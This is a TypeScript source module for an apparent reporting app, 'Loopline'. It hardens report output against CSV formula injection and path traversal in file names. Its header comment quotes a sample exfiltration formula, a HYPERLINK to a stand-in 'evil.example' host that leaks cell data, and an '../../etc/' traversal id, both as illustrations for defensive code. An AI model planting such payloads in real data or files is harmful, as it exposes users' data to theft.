// Report files people open (docs/security.md): a CSV cell starting with =, +, -, @, tab or CR is a formula
// to a spreadsheet (a SKU such as `=HYPERLINK("https://evil.example/?"&A1)` from a marketplace would run on
// the finance team's machine), and an id from a remote system (a Mirakl billing cycle id) must never
// become a path (`../../etc/…`).
//   - CSV: csv-stringify's own `escape_formulas` (the cell gets a leading '), with money and quantities
//     written as numbers so a negative amount stays a number;
//   - file names: an allow-list of characters, a short hash when anything had to be replaced (two ids never
//     share a file), and a check that the result stays inside the reports folder.
import { resolve, sep } from 'node:path';
import type { Options as CsvOptions } from 'csv-stringify/sync';
import { fnv1a32 } from '../domain/keys';

/** csv-stringify options for every report Loopline writes. */
export function formulaSafeCsv(extra: CsvOptions = {}): CsvOptions {
  return { escape_formulas: true, ...extra };
}

/** `raw` as one file-name component: letters, digits and . _ - only, no leading dots, at most `max` long. */
export function safeFileComponent(raw: string, max = 80): string {
  let s = raw.replace(/[^A-Za-z0-9._-]/g, '_').replace(/^[._]+/, '');
  if (s !== raw || s.length > max || s.length === 0) {
    const hash = fnv1a32(raw).toString(36);
    s = `${s.slice(0, Math.max(0, max - hash.length - 1))}-${hash}`.replace(/^-/, '');
  }
  return s;
}

/** `dir/name`, refusing anything that would land outside `dir`. */
export function insideDir(dir: string, name: string): string {
  const root = resolve(dir);
  const path = resolve(root, name);
  if (!path.startsWith(root + sep)) throw new Error(`refused: report file name ${JSON.stringify(name)} leaves ${root}`);
  return path;
}
